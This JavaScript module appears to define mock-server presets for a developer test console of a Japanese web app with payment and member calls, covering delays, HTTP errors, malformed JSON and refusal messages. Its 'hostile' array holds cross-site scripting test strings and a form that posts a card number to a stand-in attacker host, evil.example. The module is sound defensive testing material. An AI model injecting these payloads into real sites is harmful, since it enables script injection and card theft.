// The scenarios that the console offers for each call. Any other can be given as JSON.

const hostile = [
  '<img src="x" onerror="document.title=\'hacked\'">画像',
  '<script>document.title="hacked"</script>スクリプト',
  '<a href="javascript:document.title=\'hacked\'">リンク</a>',
  '<form action="https://evil.example/"><input name="cardNum"><button>送信</button></form>',
];

const network = [
  { label: '遅い（5秒）', scenario: { delayMs: 5000 } },
  { label: 'とても遅い（30秒）', scenario: { delayMs: 30_000 } },
  { label: '応答しない', scenario: { delayMs: 3_600_000 } },
  { label: '処理の前に切断', scenario: { drop: 'before' } },
];

const statuses = [400, 401, 403, 404, 429, 500].map((status) => ({
  label: `HTTP ${status}`,
  scenario: { status },
}));

const answers = [
  {
    label: 'HTTP 502（HTMLの応答）',
    scenario: {
      status: 502,
      body: '<html><body><h1>502 Bad Gateway</h1></body></html>',
      contentType: 'text/html',
    },
  },
  { label: '壊れたJSON', scenario: { body: '{"success":tru' } },
  { label: '形の違うJSON', scenario: { body: { result: [1, 2, 3] } } },
  { label: '空の応答', scenario: { body: '' } },
];

const refusals = [
  {
    label: '断る（メッセージ2件）',
    scenario: {
      body: {
        success: false,
        messages: ['受け付けできませんでした。', '詳しくは<a href="/contact/">お問い合わせ</a>ください。'],
      },
    },
  },
  { label: '断る（メッセージなし）', scenario: { body: { success: false } } },
  {
    label: '断る（メッセージ1000件）',
    scenario: {
      body: {
        success: false,
        messages: Array.from({ length: 1000 }, (_, index) => `メッセージ ${index + 1}`),
      },
    },
  },
  { label: '断る（悪意のあるHTML）', scenario: { body: { success: false, messages: hostile } } },
];

const dropAfter = { label: '処理の後に切断', scenario: { drop: 'after' } };
const brokenScript = {
  label: '壊れたスクリプト',
  scenario: { body: 'syntax error(', contentType: 'text/javascript' },
};
const cardBusy = { label: '混雑（901）', scenario: { body: { resultCode: '901' } } };

/** Those that make sense for a call. */
export function presetsFor(call) {
  if (call.endsWith('Script')) return [...network, ...statuses, brokenScript];
  if (call === 'gatewayToken') return [...network, dropAfter, ...statuses, ...answers, cardBusy];
  if (call.startsWith('member')) return [...network, dropAfter, ...statuses, ...answers, ...refusals];
  return [...network, dropAfter, ...statuses, ...answers];
}
